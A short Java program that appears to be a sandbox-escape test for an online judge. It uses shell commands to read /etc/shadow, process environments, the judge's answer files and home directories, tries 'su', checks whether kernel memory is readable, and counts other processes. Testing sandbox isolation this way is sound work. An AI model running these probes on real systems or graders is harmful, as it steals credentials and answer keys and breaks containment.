// Attack: has other programs read what the host keeps, and looks at the processes beside its own.
// Verdict: accepted
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Scanner;

public class Main {
    static StringBuilder harm = new StringBuilder();

    static void run(String... command) {
        try {
            Process process = new ProcessBuilder(command).redirectErrorStream(false).start();
            harm.append(new String(process.getInputStream().readAllBytes()));
            process.waitFor();
        } catch (IOException | InterruptedException error) {
            return;
        }
    }

    public static void main(String[] arguments) {
        run("sh", "-c", "cat /etc/shadow /proc/1/environ /proc/1/maps ../*.ans /root/* /home/*/* 2>/dev/null");
        run("sh", "-c", "ls /root /home /sys /srv /opt 2>/dev/null; ls -A /box | grep -v -e classes.tar -e '^Main' -e META-INF");
        run("su", "-c", "id");
        for (String path : new String[] {"/proc/1/root/etc/shadow", "/proc/1/cwd", "/proc/1/mem", "/dev/mem", "/proc/kcore"}) {
            if (Files.isReadable(Path.of(path))) harm.append(path);
        }
        long others = ProcessHandle.allProcesses().filter(process -> process.pid() != 1)
            .filter(process -> process.pid() != ProcessHandle.current().pid()).count();
        if (others > 0) harm.append(others).append(" other processes");
        System.out.println(harm.length() > 0 ? harm : "unharmed " + new Scanner(System.in).next());
    }
}
